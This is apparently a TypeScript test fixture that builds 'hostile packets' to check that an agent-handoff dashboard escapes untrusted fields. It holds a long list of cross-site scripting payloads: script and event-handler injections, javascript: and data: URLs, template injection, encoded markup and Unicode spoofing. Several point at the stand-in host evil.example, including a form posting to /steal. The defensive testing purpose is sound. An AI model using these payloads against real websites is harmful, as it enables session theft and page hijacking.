import { INVISIBLE_CHARACTERS } from "../../lib/contract/validate";

/**
 * Hostile text an agent could put in any field of a packet. A payload that ever
 * ran would call alert() (a dialog) or set window.__xss; one that loaded anything
 * would ask evil.example. The spec checks for all three, and for the elements
 * themselves (e2e/support/hostile-watch.ts).
 */

/** The host every payload points at; no request may ever go there. */
export const EVIL_HOST = "evil.example";

export const XSS_PAYLOADS: readonly string[] = [
  // Markup: the classics, in elements and attributes.
  "<script>window.__xss=1;alert(1)</script>",
  '<img src=x onerror="window.__xss=2;alert(2)">',
  `<img src="http://${EVIL_HOST}/img.png" onerror=alert(3)>`,
  "<svg onload=alert(4)><circle r=1 /></svg>",
  `"><script src=http://${EVIL_HOST}/x.js></script>`,
  "'><img src=x onerror=alert(6)>",
  "</script><script>window.__xss=7</script>",
  "<!--<script>alert(8)//-->",
  `<iframe src="http://${EVIL_HOST}/frame" onload=alert(9)></iframe>`,
  '<iframe srcdoc="<script>parent.alert(10)</script>"></iframe>',
  "<details open ontoggle=alert(11)>x</details>",
  "<input autofocus onfocus=alert(12)>",
  "<body onload=alert(13)>",
  `<video poster="http://${EVIL_HOST}/poster.png"><source onerror=alert(14)></video>`,
  `<object data="http://${EVIL_HOST}/x.swf"></object><embed src="http://${EVIL_HOST}/x.swf">`,
  `<base href="http://${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=http://${EVIL_HOST}/">`,
  `<form action="http://${EVIL_HOST}/steal"><button>go</button></form>`,
  '<a href="javascript:alert(19)">click</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(20)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(21)>">',
  // Style-based.
  `<div style="background:url(http://${EVIL_HOST}/bg.png)">styled</div>`,
  `<style>@import 'http://${EVIL_HOST}/x.css'; body{background:url(http://${EVIL_HOST}/bg2.png)}</style>`,
  `<link rel=stylesheet href=http://${EVIL_HOST}/x.css>`,
  // URLs and markdown (a renderer that turned markdown into HTML would make these live).
  "javascript:alert(25)",
  "[click me](javascript:alert(26))",
  `![pixel](http://${EVIL_HOST}/pixel.png)`,
  "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=)",
  `<a href="http://${EVIL_HOST}/" ping="http://${EVIL_HOST}/ping">ping</a>`,
  "| a | b |\n|---|---|\n| <script>alert(30)</script> | x |",
  "```\n</code></pre><script>alert(31)</script>\n```",
  // Template injection (Angular, Vue, JS template literals, Ruby/Pug interpolation).
  "{{constructor.constructor('alert(32)')()}}",
  "${alert(33)} #{alert(33)} <%= alert(33) %>",
  // Encodings that a double decoder would turn into markup.
  "&lt;script&gt;alert(34)&lt;/script&gt; %3Cscript%3Ealert(34)%3C/script%3E \\u003cscript\\u003ealert(34)\\u003c/script\\u003e",
  // Unicode: right-to-left override, zero-width and line separators, a homoglyph.
  "invoice\u202Egnp.exe \u200Badmin\u200D \u2028\u2029 p\u0430ypal.com \uFEFF",
];

/** One payload far longer than any field should be, ending in a script. */
export const LONG_PAYLOAD = `${"<b>long</b> ".repeat(2_000)}<script>window.__xss=99</script>`;

/** Safe to use in a directory name (no "/", short). */
export const PATH_PAYLOADS: readonly string[] = ["<img src=x onerror=alert(40)>", "<svg onload=window.__xss=41>"];

/** The agent-provided fields the spec fills (hostilePacket, the reports, the watched path), as the contract names them. */
export const HOSTILE_FIELDS = [
  "thread", "session_id", "task_id", "agent.name", "agent.kind", "agent.model", "project", "branch", "topic",
  "last_known_good_commit", "summary", "changed_files.path", "changed_files.change", "commands_run.command",
  "failed_attempts.attempt", "failed_attempts.reason", "open_risks.severity", "open_risks.detail", "open_risks.mitigation",
  "open_risks.id", "next_action.action", "next_action.command", "next_action.owner", "verdict_pointer", "clean_state",
  "assumptions_to_validate", "questions_for_human.id", "questions_for_human.question", "questions_for_human.context",
  "questions_for_human.options", "preconditions", "feedback_tail", "verdict.review_verdict", "human (as sent)",
  "unknown field names and values", "verification report findings", "review report dimensions", "watched file path",
] as const;

const SEVERITY_WORDS = ["critical", "high", "medium", "low", "info"];

/**
 * A packet whose every agent-provided field holds the payloads: lists carry one
 * entry per payload (in each accepted shape), text fields all of them, one a line.
 */
export function hostilePacket(thread: string, payloads: readonly string[]): Record<string, unknown> {
  const all = payloads.join("\n");
  const first = payloads[0] ?? "";
  // Fields that name a thread refuse invisible and bidirectional characters (400, tested
  // in lib/contract/validate.test.ts): they carry every payload without those.
  const visible = payloads.map((payload) => payload.replace(INVISIBLE_CHARACTERS, "")).join(" ");
  return {
    thread: thread.replace(INVISIBLE_CHARACTERS, ""),
    schema_version: 1,
    session_id: visible,
    task_id: visible,
    agent: { name: visible, kind: all, model: all },
    project: visible,
    branch: visible,
    topic: visible,
    last_known_good_commit: all,
    status: "active",
    summary: all,
    changed_files: payloads.map((payload, index) => (index % 2 ? payload : { path: payload, change: payload, additions: 1, deletions: 2 })),
    commands_run: payloads.map((payload, index) => (index % 2 ? payload : { command: index % 4 ? [payload, payload] : payload, exit_code: 1, duration_ms: 5 })),
    failed_attempts: payloads.map((payload, index) => (index % 2 ? payload : { attempt: payload, reason: payload, exit_code: 2 })),
    // Every third risk has the payload as its severity word (shown beside the badge).
    open_risks: payloads.map((payload, index) => ({ severity: index % 3 ? SEVERITY_WORDS[index % 5] : payload, detail: payload, mitigation: payload, id: payload })),
    next_action: { action: all, command: all, owner: all },
    verdict_pointer: [{ verdict: first, review: all }, `http://${EVIL_HOST}/report.json`, "javascript:alert(50)", "data:text/html,<script>alert(51)</script>"],
    clean_state: payloads.map((payload, index) => (index % 2 ? payload : { check: payload, detail: payload })),
    assumptions_to_validate: payloads.map((payload, index) => (index % 2 ? payload : { text: payload, score: 0.5 })),
    questions_for_human: payloads.map((payload, index) => ({ id: index % 2 ? payload : undefined, question: payload, context: payload, options: [payload, `${payload} (or not)`] })),
    preconditions: [...payloads],
    feedback_tail: payloads.map((payload) => ({ command: payload, exit_code: 1, output: payload })),
    verdict: { passed: false, review_total: 3, review_verdict: all },
    // A human section in the packet is kept as history.
    human: { revision: 7, decision: { kind: "approved", by: first, at: "2026-01-01T00:00:00Z", note: all } },
    // Unknown fields, their names hostile too: kept and shown in the raw view.
    [first]: all,
    x_unknown: { nested: [...payloads], [payloads.at(-1) ?? ""]: { deeper: all } },
  };
}
